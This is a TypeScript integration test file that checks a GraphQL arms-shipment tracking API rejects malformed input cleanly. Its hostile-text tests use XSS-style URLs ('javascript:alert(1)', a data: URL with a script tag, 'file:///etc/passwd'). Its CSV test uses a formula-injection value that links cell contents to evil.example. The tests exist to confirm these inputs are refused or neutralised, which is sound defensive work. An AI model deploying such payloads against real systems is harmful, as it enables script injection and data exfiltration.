// Input at fault is answered as such (issue #27, item 6): forged cursors on every list, instants
// and dates outside the storable years, quantities past the documented range, prototype names
// as claim fields, an event in a year without a yearly partition, subscription operations, bad
// persisted-query extensions and bad CSV report parameters. Each is a client error with a code
// (and the field at fault where there is one), through a real server on a real database; never
// INTERNAL_SERVER_ERROR, never HTTP 500.
import { actorId } from '../../seed/ids';
import { MAX_QUANTITY } from '../../src/domain/validation';
import { expectSafeCsv } from '../support/csv';
import { startTestServer, type GqlResponse, type TestServer } from '../support/server';

let server: TestServer;
let base: string;
let admin: string;
beforeAll(async () => {
  server = await startTestServer({ seedOnStart: true });
  base = server.url.replace(/\/graphql$/, '');
  admin = (await server.mintKey('ADMIN')).key;
}, 180_000);
afterAll(() => server?.stop(), 180_000);

const RUSSIA = actorId('russia');
const DPRK = actorId('dprk');
const UUID = '00000000-0000-4000-8000-000000000000';
const b64 = (key: unknown) => Buffer.from(JSON.stringify(key), 'utf8').toString('base64url');

function expectBadInput(res: GqlResponse<unknown>, field: string): void {
  expect(res.status).toBeLessThan(500);
  expect(JSON.stringify(res)).not.toContain('INTERNAL_SERVER_ERROR');
  expect(res.errors?.map((e) => [e.extensions?.code, e.extensions?.field])).toEqual([['BAD_USER_INPUT', field]]);
}

describe('forged cursors', () => {
  const FORGED = [
    [1, 'x', 'not-uuid'],
    ['2023-02-30', '2023-01-02', UUID],
    [1.5, 'x', UUID],
    ['0000-01-01', '0000-01-01', UUID],
    [-1, 'x', UUID],
    ['1', '5'],
    ['0000-01-01T00:00:00.000Z', UUID],
    ['2023-01-01T00:00:00.000Z', '99999999999999999999'],
    ['99999999999999999999'],
    ['2023-01-01', '2023-01-01', 9, UUID],
    [2 ** 31, 'x', UUID],
    ['x\u0000', 'x', UUID],
    [0, '\ud800', UUID],
    'not json',
    {},
  ].map((key) => (typeof key === 'string' ? Buffer.from(key).toString('base64url') : b64(key)));

  // Every list with a cursor, and whether it needs an ADMIN key.
  const LISTS: [string, string, boolean][] = [
    ['actors', 'query ($a: String) { actors(after: $a) { totalCount edges { cursor } } }', false],
    ['events', 'query ($a: String) { events(after: $a) { totalCount edges { cursor } } }', false],
    ['shipments', 'query ($a: String) { shipments(after: $a) { totalCount edges { cursor } } }', false],
    ['Actor.events', `query ($a: String) { actor(id: "${RUSSIA}") { events(after: $a) { edges { cursor } } } }`, false],
    ['Actor.shipmentsSupplied', `query ($a: String) { actor(id: "${RUSSIA}") { shipmentsSupplied(after: $a) { edges { cursor } } } }`, false],
    ['Actor.shipmentsReceived', `query ($a: String) { actor(id: "${RUSSIA}") { shipmentsReceived(after: $a) { edges { cursor } } } }`, false],
    ['timeline', `query ($a: String) { timeline(actorIds: ["${RUSSIA}"], after: $a) { edges { cursor } } }`, false],
    ['timeline (before)', `query ($a: String) { timeline(actorIds: ["${RUSSIA}"], before: $a, last: 5) { edges { cursor } } }`, false],
    ['changes', 'query ($a: String) { changes(since: "2020-01-01T00:00:00Z", after: $a) { edges { cursor } } }', false],
    ['claims', `query ($a: String) { claims(subjectId: "${UUID}", after: $a) { totalCount } }`, false],
    ['auditLog', 'query ($a: String) { auditLog(after: $a) { totalCount } }', true],
    ['apiKeys', 'query ($a: String) { apiKeys(after: $a) { totalCount } }', true],
  ];

  it.each(LISTS)('%s: every forged cursor is BAD_USER_INPUT on its argument', async (name, query, asAdmin) => {
    const h: Record<string, string> = asAdmin ? { authorization: `Bearer ${admin}` } : {};
    const field = name.includes('before') ? 'before' : 'after';
    for (const a of FORGED) expectBadInput(await server.gql(query, { a }, h), field);
  });

  it('a real cursor still pages on every shape', async () => {
    const page = await server.gql('{ actors(first: 2) { edges { cursor node { id } } } events(first: 2) { edges { cursor } } }');
    const next = await server.gql(
      'query ($a: String, $e: String) { actors(first: 1, after: $a) { edges { node { id } } } events(first: 1, after: $e) { edges { cursor } } }',
      {
        a: page.data.actors.edges[0].cursor,
        e: page.data.events.edges[0].cursor,
      },
    );
    expect(next.errors).toBeUndefined();
    expect(next.data.actors.edges[0].node.id).toBe(page.data.actors.edges[1].node.id);
    expect(next.data.events.edges[0].cursor).toBe(page.data.events.edges[1].cursor);
  });
});

describe('instants and dates outside the storable years', () => {
  const INSTANTS = ['0000-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', '-000001-01-01T00:00:00Z', '10000-01-01T00:00:00Z'];
  const READS: [string, string][] = [
    ['asOf', 'query ($t: DateTime) { events(asOf: $t) { totalCount } }'],
    ['asOf', 'query ($t: DateTime) { shipments(asOf: $t) { totalCount } }'],
    ['asOf', `query ($t: DateTime) { actor(id: "${RUSSIA}", asOf: $t) { id } }`],
    ['asOf', `query ($t: DateTime) { timeline(actorIds: ["${RUSSIA}"], asOf: $t) { totalCount } }`],
    ['since', 'query ($t: DateTime!) { changes(since: $t) { settledUntil } }'],
  ];

  it.each(READS)('%s out of range in %s is BAD_USER_INPUT naming it', async (field, query) => {
    for (const t of INSTANTS) expectBadInput(await server.gql(query, { t }), field);
  });

  it('written in the document, the same values are refused before anything runs', async () => {
    for (const t of INSTANTS) {
      const res = await server.gql(`{ events(asOf: "${t}") { totalCount } changes(since: "${t}") { settledUntil } }`);
      expect(res.status).toBe(400);
      expect(res.errors?.[0].extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
    }
  });

  it('dates in year 0000 are refused by the Date scalar, wherever they are input', async () => {
    expectBadInput(await server.gql('query ($d: Date) { events(filter: { from: $d }) { totalCount } }', { d: '0000-01-01' }), 'filter.from');
    expectBadInput(await server.gql('query ($d: Date) { shipments(filter: { to: $d }) { totalCount } }', { d: '0000-12-31' }), 'filter.to');
    const literal = await server.gql('{ events(filter: { from: "0000-01-01" }) { totalCount } }');
    expect(literal.status).toBe(400);
    expect(literal.errors?.[0].extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
    // the first and last storable days still work
    const edges = await server.gql('{ events(filter: { from: "0001-01-01", to: "9999-12-31" }) { totalCount } }');
    expect(edges.errors).toBeUndefined();
  });

  it('a key expiring in year 10000 is refused, one in 9999 is made', async () => {
    const create = 'mutation ($t: DateTime) { createApiKey(input: { role: VIEWER, label: "far", expiresAt: $t }) { apiKey { expiresAt } } }';
    expectBadInput(await server.gql(create, { t: '+010000-01-01T00:00:00Z' }, { authorization: `Bearer ${admin}` }), 'input.expiresAt');
    const ok = await server.gql(create, { t: '9999-12-31T23:59:59Z' }, { authorization: `Bearer ${admin}` });
    expect(ok.data?.createApiKey.apiKey.expiresAt).toBe('9999-12-31T23:59:59.000Z');
  });
});

describe('numbers past their range', () => {
  const shipment = (quantity: unknown, supplier = DPRK) =>
    server.gql(
      'mutation ($q: Float) { createShipment(input: { supplierId: "' +
        supplier +
        '", recipientId: "' +
        RUSSIA +
        '", category: MLRS_AMMUNITION, quantity: $q, unit: "rounds", deliverySpan: { edtf: "2031-05" }, status: REPORTED, confidence: REPORTED }) { id quantity } }',
      { q: quantity },
    );

  it('a quantity above the documented maximum is refused, on create, update and as a claimed value', async () => {
    expectBadInput(await shipment(1.7e308), 'input.quantity');
    expectBadInput(await shipment(MAX_QUANTITY * 1.0000001), 'input.quantity');
    const literal = await server.gql(
      `mutation { createShipment(input: { supplierId: "${DPRK}", recipientId: "${RUSSIA}", category: MLRS_AMMUNITION, quantity: 1e400, unit: "rounds", deliverySpan: { edtf: "2031-05" }, status: REPORTED, confidence: REPORTED }) { id } }`,
    );
    expectBadInput(literal, 'input.quantity');
    const made = await shipment(5);
    const id = made.data.createShipment.id;
    expectBadInput(await server.gql('mutation ($id: ID!) { updateShipment(id: $id, input: { quantity: 1.7e308 }) { id } }', { id }), 'input.quantity');
    const claim = await server.gql(
      `mutation ($id: ID!) { createClaim(input: { claimantId: "${RUSSIA}", shipmentId: $id, field: "quantity", value: "1.7e308", likelihood: LIKELY }) { id } }`,
      { id },
    );
    expectBadInput(claim, 'input.value');
  });

  it('quantities at the maximum are stored, and their sums in every report stay finite', async () => {
    const supplier = (await server.gql('mutation { createActor(input: { name: "Max supplier", kind: STATE }) { id } }')).data.createActor.id;
    for (let i = 0; i < 3; i += 1) expect((await shipment(MAX_QUANTITY, supplier)).errors).toBeUndefined();
    for (const attribution of ['PRO_RATA', 'START', 'END']) {
      const report = await server.gql(
        `{ shipmentReport(from: "2031-01-01", to: "2031-12-31", granularity: YEAR, attribution: ${attribution}, filter: { supplierIds: ["${supplier}"] }) { totals { quantity shipments } } }`,
      );
      expect(report.errors).toBeUndefined();
      expect(report.data.shipmentReport.totals).toEqual([{ quantity: 3 * MAX_QUANTITY, shipments: 3 }]);
    }
  });

  it('minSources past a whole number of sources is refused', async () => {
    expectBadInput(await server.gql('query ($m: Int) { events(filter: { minSources: $m }) { totalCount } }', { m: -1 }), 'filter.minSources');
  });
});

describe('prototype names as claim fields', () => {
  const NAMES = ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf'];
  let eventId: string;
  beforeAll(async () => {
    eventId = (await server.gql('{ events(first: 1) { edges { node { id } } } }')).data.events.edges[0].node.id;
  });

  it.each(NAMES)('createClaim with field "%s" is BAD_USER_INPUT on input.field', async (field) => {
    const res = await server.gql(
      'mutation ($e: ID!, $f: String) { createClaim(input: { claimantId: "' + RUSSIA + '", eventId: $e, field: $f, value: "x", likelihood: LIKELY }) { id } }',
      { e: eventId, f: field },
    );
    expectBadInput(res, 'input.field');
  });

  it.each(NAMES)('importRecords with a claim about "%s" rejects that record on its field', async (field) => {
    const data = [
      { kind: 'event', dataset: 'proto', externalId: `e-${field}`, type: 'MEETING', title: 'Proto', date: '2023-05', confidence: 'REPORTED' },
      { kind: 'claim', dataset: 'proto', externalId: `c-${field}`, claimant: 'Russia', event: `e-${field}`, field, value: 'x', likelihood: 'LIKELY' },
    ]
      .map((r) => JSON.stringify(r))
      .join('\n');
    const res = await server.gql('mutation ($d: String!) { importRecords(format: NDJSON, data: $d) { committed errors { line field } } }', { d: data });
    expect(res.errors).toBeUndefined();
    expect(res.data.importRecords).toEqual({ committed: false, errors: [{ line: 2, field: 'field' }] });
  });
});

describe('a year without a yearly partition', () => {
  it('importing an event dated 9999-12 stores it (in the default partition), as the API does', async () => {
    const data = JSON.stringify({
      kind: 'event',
      dataset: 'far',
      externalId: 'e9999',
      type: 'MEETING',
      title: 'Far future',
      date: '9999-12',
      confidence: 'REPORTED',
    });
    const res = await server.gql('mutation ($d: String!) { importRecords(format: NDJSON, data: $d) { committed errors { field reason } } }', { d: data });
    expect(res.errors).toBeUndefined();
    expect(res.data.importRecords).toEqual({ committed: true, errors: [] });
    const api = await server.gql(
      'mutation { createEvent(input: { type: MEETING, title: "Far future too", date: { edtf: "9999-12-31" }, confidence: REPORTED }) { id } }',
    );
    expect(api.errors).toBeUndefined();
    const read = await server.gql('{ events(filter: { from: "9999-01-01" }) { totalCount } }');
    expect(read.data.events.totalCount).toBe(2);
    const { rows } = await server.db.pool.query("SELECT tableoid::regclass::text AS part FROM events WHERE span_start >= '9999-01-01'");
    expect(rows.map((r) => r.part)).toEqual(['events_default', 'events_default']);
  });
});

describe('operations the server does not run', () => {
  it('a subscription is a 400 GRAPHQL_VALIDATION_FAILED, every time', async () => {
    for (let i = 0; i < 3; i += 1) {
      const res = await server.gql('subscription { events { totalCount } }');
      expect(res.status).toBe(400);
      expect(res.errors?.map((e) => e.extensions?.code)).toEqual(['GRAPHQL_VALIDATION_FAILED']);
      expect(res.errors?.[0].message).toMatch(/subscription/i);
    }
  });
});

describe('persisted-query extensions', () => {
  const post = async (body: object) => {
    const res = await fetch(server.url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
    return { status: res.status, ...((await res.json()) as { errors?: { message: string; extensions?: { code?: string } }[] }) };
  };

  it('a hash that does not match the query is PERSISTED_QUERY_HASH_MISMATCH (400), every time', async () => {
    for (let i = 0; i < 2; i += 1) {
      const res = await post({ query: '{ sources { id } }', extensions: { persistedQuery: { version: 1, sha256Hash: 'abc' } } });
      expect(res.status).toBe(400);
      expect(res.errors?.map((e) => e.extensions?.code)).toEqual(['PERSISTED_QUERY_HASH_MISMATCH']);
    }
  });

  it('a version other than 1 is BAD_REQUEST (400); an unknown hash PERSISTED_QUERY_NOT_FOUND', async () => {
    for (const persistedQuery of [{ version: 2, sha256Hash: 'abc' }, { version: '1', sha256Hash: 'abc' }, { sha256Hash: 'abc' }]) {
      const res = await post({ query: '{ sources { id } }', extensions: { persistedQuery } });
      expect(res.status).toBe(400);
      expect(res.errors?.map((e) => e.extensions?.code)).toEqual(['BAD_REQUEST']);
    }
    const unknown = await post({ extensions: { persistedQuery: { version: 1, sha256Hash: 'f'.repeat(64) } } });
    expect(unknown.errors?.map((e) => e.extensions?.code)).toEqual(['PERSISTED_QUERY_NOT_FOUND']);
  });
});

describe('CSV report parameters', () => {
  const get = async (path: string) => {
    const res = await fetch(`${base}${path}`);
    return { status: res.status, text: await res.text() };
  };
  const CASES: [string, string][] = [
    ['search=%00', 'search'],
    ['search=%ED%A0%80', 'search'],
    ['asOf=0000-01-01T00:00:00Z', 'asOf'],
    ['asOf=%2B275760-09-13T00:00:00Z', 'asOf'],
    ['minSources=99999999999999999999999', 'minSources'],
    ['minSources=2147483648', 'minSources'],
    ['types=constructor', 'types[0]'],
    ['types=__proto__', 'types[0]'],
    ['minConfidence=toString', 'minConfidence'],
    ['from=0000-01-01', 'from'],
  ];
  it.each(CASES)('/reports/events.csv with %s is a 400 naming %s', async (param, field) => {
    const query = param.startsWith('from=') ? `${param}&to=2023-12-31` : `from=2023-01-01&to=2023-12-31&${param}`;
    const res = await get(`/reports/events.csv?${query}`);
    expect(res.status).toBe(400);
    expect(JSON.parse(res.text)).toMatchObject({ error: 'BAD_USER_INPUT', field });
  });

  it.each([
    ['categories=constructor', 'categories[0]'],
    ['statuses=hasOwnProperty', 'statuses[0]'],
    ['minSources=1e3', 'minSources'],
  ])('/reports/shipments.csv with %s is a 400 naming %s', async (param, field) => {
    const res = await get(`/reports/shipments.csv?from=2023-01-01&to=2023-12-31&${param}`);
    expect(res.status).toBe(400);
    expect(JSON.parse(res.text)).toMatchObject({ error: 'BAD_USER_INPUT', field });
  });
});

describe('hostile text (issue #27, item 9)', () => {
  const post = async (body: Buffer, headers: Record<string, string> = {}) => {
    const res = await fetch(server.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${server.editorKey}`, ...headers },
      body: new Uint8Array(body),
    });
    return { status: res.status, ...((await res.json()) as { data?: any; errors?: { message: string; extensions?: { code?: string; field?: string } }[] }) };
  };
  const CREATE_ACTOR = 'mutation ($input: CreateActorInput!) { createActor(input: $input) { id } }';

  it('a lone surrogate is refused on the field that holds it, never stored as U+FFFD', async () => {
    expectBadInput(await server.gql(CREATE_ACTOR, { input: { name: 'Lone \ud800 surrogate', kind: 'STATE' } }), 'input.name');
    expectBadInput(await server.gql(CREATE_ACTOR, { input: { name: 'Fine', kind: 'STATE', aliases: ['ok', 'x\udfff'] } }), 'input.aliases[1]');
    expectBadInput(
      await server.gql('mutation ($d: String!) { importRecords(format: NDJSON, data: $d) { committed } }', {
        d: `{"kind":"actor","externalId":"x","name":"a\ud800","actorKind":"STATE"}`,
      }),
      'data',
    );
    const { rows } = await server.db.pool.query("SELECT count(*)::int AS n FROM actors WHERE name LIKE '%' || chr(65533) || '%'");
    expect(rows[0].n).toBe(0);
  });

  it('bytes that are not UTF-8 in a request body are refused on the field that holds them', async () => {
    const [before, after] = JSON.stringify({ query: CREATE_ACTOR, variables: { input: { name: 'XNAMEX', kind: 'STATE' } } }).split('XNAMEX');
    const body = (name: Buffer) => Buffer.concat([Buffer.from(before), name, Buffer.from(after)]);
    const res = await post(body(Buffer.concat([Buffer.from('Bad '), Buffer.from([0xff, 0xc3]), Buffer.from(' bytes')])));
    expect(res.status).toBeLessThan(500);
    expect(res.errors?.map((e) => [e.extensions?.code, e.extensions?.field])).toEqual([['BAD_USER_INPUT', 'input.name']]);
    // outside any string the body is not JSON
    const outside = await post(Buffer.concat([Buffer.from('{"query": "{ sources { id } }"'), Buffer.from([0xff]), Buffer.from('}')]));
    expect(outside.status).toBe(400);
    expect(outside.errors?.[0].extensions?.code).toBe('BAD_REQUEST');
  });

  it('source URLs are http or https only', async () => {
    const create = 'mutation ($url: String) { createSource(input: { publisher: "P", title: "T", url: $url }) { id url } }';
    for (const url of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'file:///etc/passwd',
      'vbscript:x',
      'http://',
    ]) {
      expectBadInput(await server.gql(create, { url }), 'input.url');
    }
    const ok = await server.gql(create, { url: 'https://example.org/a?b=<c>' });
    expect(ok.data?.createSource.url).toBe('https://example.org/a?b=<c>');
  });

  it('each field has its documented limit, the same in the API as in the importer', async () => {
    expectBadInput(await server.gql(CREATE_ACTOR, { input: { name: 'n'.repeat(10_000), kind: 'STATE' } }), 'input.name');
    expectBadInput(await server.gql(CREATE_ACTOR, { input: { name: 'ok', kind: 'STATE', description: 'd'.repeat(20_001) } }), 'input.description');
    // the limits count characters: 500 emoji are 500, not 1,000 UTF-16 units
    const emoji = await server.gql(CREATE_ACTOR, { input: { name: '😀'.repeat(500), kind: 'STATE' } });
    expect(emoji.errors).toBeUndefined();
    const event =
      'mutation ($t: String!, $x: String) { createEvent(input: { type: MEETING, title: $t, date: { edtf: "2023", text: $x }, confidence: REPORTED }) { id } }';
    expectBadInput(await server.gql(event, { t: 't'.repeat(1_001) }), 'input.title');
    expectBadInput(await server.gql(event, { t: 'ok', x: 'x'.repeat(501) }), 'input.date.text');
    const data = JSON.stringify({ kind: 'actor', dataset: 'limits', externalId: 'long', name: 'n'.repeat(10_000), actorKind: 'STATE' });
    const imported = await server.gql('mutation ($d: String!) { importRecords(format: NDJSON, data: $d) { committed errors { field reason } } }', { d: data });
    expect(imported.data.importRecords).toEqual({ committed: false, errors: [{ field: 'name', reason: 'must be at most 500 characters (got 10000)' }] });
  });
});

describe('CSV reports under the CSV policy', () => {
  it('neutralise formula cells, start with a byte-order mark, and leave it out when asked', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const supplier = (await server.gql('mutation ($n: String!) { createActor(input: { name: $n, kind: ORGANIZATION }) { id } }', { n: name })).data.createActor
      .id;
    const made = await server.gql(
      `mutation { createShipment(input: { supplierId: "${supplier}", recipientId: "${RUSSIA}", category: FOOD, quantity: 3, unit: "@tonnes", deliverySpan: { edtf: "2032-02" }, status: REPORTED, confidence: REPORTED }) { id } }`,
    );
    expect(made.errors).toBeUndefined();
    const url = `${base}/reports/shipments.csv?from=2032-01-01&to=2032-12-31&groupBy=SUPPLIER&supplierIds=${supplier}`;
    const res = await fetch(url);
    expect(res.status).toBe(200);
    const rows = expectSafeCsv(Buffer.from(await res.arrayBuffer()));
    expect(rows.flat()).toEqual(expect.arrayContaining([`'${name}`, "'@tonnes"]));
    expectSafeCsv(Buffer.from(await (await fetch(`${url}&bom=false`)).arrayBuffer()), { bom: false });
    const events = await fetch(`${base}/reports/events.csv?from=2023-01-01&to=2023-12-31&groupBy=ACTOR`);
    expectSafeCsv(Buffer.from(await events.arrayBuffer()));
  });
});
